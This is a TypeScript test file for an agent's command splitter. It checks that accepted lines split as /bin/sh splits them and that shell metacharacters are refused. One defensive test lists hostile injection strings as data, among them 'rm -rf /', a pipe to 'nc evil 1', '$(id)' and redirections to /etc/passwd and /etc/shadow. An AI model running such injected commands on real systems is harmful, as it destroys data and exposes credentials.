/**
 * The agent's command-line splitter against the real thing: every line it accepts must split into
 * exactly the words /bin/sh gives (sh -c 'printf "%s\0" LINE', with globbing off), so its grammar
 * is a subset of sh with nothing expanded; everything sh would chain, redirect, substitute or glob
 * is refused with E_AGENT_SYNTAX; bounds give E_AGENT_BOUND.
 */
import t from 'tap';
import { spawnSync } from 'node:child_process';
import { splitCommand, MAX_COMMAND_BYTES, MAX_WORDS, MAX_WORD_BYTES } from '../../src/agent/split.js';
import { SnapferryError } from '../../src/util/errors.js';
import { prng } from '../helpers/images.js';

/** sh's own split of `line` (noglob), or null if sh rejects it. */
function shWords(line: string): string[] | null {
  // a first word of our own: printf with no arguments would still print its format once
  const r = spawnSync('/bin/sh', ['-c', `set -f; printf '%s\\0' first ${line}`], { encoding: 'buffer' });
  if (r.status !== 0) return null;
  return r.stdout.toString('utf8').split('\0').slice(1, -1);
}

function code(f: () => unknown): string | undefined {
  try {
    f();
    return undefined;
  } catch (e) {
    return e instanceof SnapferryError ? e.code : `not typed: ${String(e)}`;
  }
}

t.test('accepted lines split as sh splits them', async (t) => {
  const lines = [
    'backup vm1 --json',
    "ls /dev/sdb 'p1/Program Files'",
    'ls /dev/sdb "p1/Program Files"',
    'cat vm.vmx p1/a\\ b',
    "backup vm1 --exclude '*.tmp' --exclude 'a;b|c&d'",
    'restore --repo nas latest "scsi0:0/p1/etc/hostname" --identity - --target -',
    '   help   ',
    "a'b'c\"d\"e",
    '"a\\"b" "c\\\\d" "e\\f"',
    "''",
    'x "" y',
    'ls p1/a#b p1/x~y',
    'ls "#x" \'~root\' \\#y',
    'über ünïcödé "日本語"',
    'tab\tseparated\t\twords',
  ];
  for (const l of lines) t.same(splitCommand(l), shWords(l), JSON.stringify(l));
});

t.test('a seeded fuzz: whatever the splitter accepts, sh splits the same way', async (t) => {
  const rnd = prng(9001);
  const alphabet = ['a', 'b', 'c', 'd', '0', ' ', ' ', ' ', "'", '"', '\\', 'a', 'b', ' ', ' ', "'", '"', '\\', '-', '/', '.', '=', ':', '#', '~', ';', '|', '&', '$', '`', '*', '(', '\t', 'é', ','];
  let accepted = 0;
  let refused = 0;
  for (let i = 0; i < 600; i++) {
    const n = 1 + Math.floor(rnd() * 14);
    let l = '';
    for (let k = 0; k < n; k++) l += alphabet[Math.floor(rnd() * alphabet.length)];
    let ours: string[] | null;
    try {
      ours = splitCommand(l);
      accepted++;
    } catch (e) {
      t.equal((e as SnapferryError).code, 'E_AGENT_SYNTAX', `refusal of ${JSON.stringify(l)} is typed`);
      refused++;
      continue;
    }
    t.same(ours, shWords(l), JSON.stringify(l));
  }
  t.ok(accepted > 50 && refused > 50, `both paths exercised (${accepted} accepted, ${refused} refused)`);
});

t.test('shell metacharacters outside quotes are refused, not run and not taken literally', async (t) => {
  for (const l of [
    'backup vm1; rm -rf /',
    'backup vm1 && reboot',
    'backup vm1 | nc evil 1',
    'backup vm1 & ',
    'ls `id`',
    'ls $(id)',
    'ls $HOME',
    'ls ${HOME}',
    'ls "$HOME"',
    'ls "`id`"',
    'ls > /etc/passwd',
    'ls < /etc/shadow',
    'ls (x)',
    'ls {a,b}',
    'ls *',
    'ls p1/?',
    'ls [ab]',
    'ls #comment',
    'ls ~root',
    'backup vm1\nreboot',
    'backup vm1\rreboot',
    'ls "a\nb"',
    "ls 'a\u001bb'",
    'ls \u0000',
    "ls 'unterminated",
    'ls "unterminated',
    'ls trailing\\',
  ]) t.equal(code(() => splitCommand(l)), 'E_AGENT_SYNTAX', JSON.stringify(l));
  t.same(splitCommand("ls 'a;b|c&d`e$(f)>g<h'"), ['ls', 'a;b|c&d`e$(f)>g<h'], 'quoted, they are plain characters');
});

t.test('bounds: line length, word count, word length', async (t) => {
  t.equal(code(() => splitCommand(`${'a'.repeat(MAX_WORD_BYTES - 1)} ${'b'.repeat(MAX_COMMAND_BYTES - MAX_WORD_BYTES)}`)), undefined, 'a line of exactly the bound is accepted');
  t.equal(code(() => splitCommand('a'.repeat(MAX_COMMAND_BYTES + 1))), 'E_AGENT_BOUND', 'one byte more is refused');
  t.equal(code(() => splitCommand('é'.repeat(MAX_COMMAND_BYTES / 2 + 1))), 'E_AGENT_BOUND', 'the bound counts UTF-8 bytes');
  t.equal(splitCommand(Array(MAX_WORDS).fill('w').join(' ')).length, MAX_WORDS, `${MAX_WORDS} words are accepted`);
  t.equal(code(() => splitCommand(Array(MAX_WORDS + 1).fill('w').join(' '))), 'E_AGENT_BOUND', 'one more word is refused');
  t.equal(code(() => splitCommand(`ls ${'x'.repeat(MAX_WORD_BYTES)}`)), undefined, 'a word of exactly the bound');
  t.equal(code(() => splitCommand(`ls ${'x'.repeat(MAX_WORD_BYTES + 1)}`)), 'E_AGENT_BOUND', 'a longer word is refused');
});
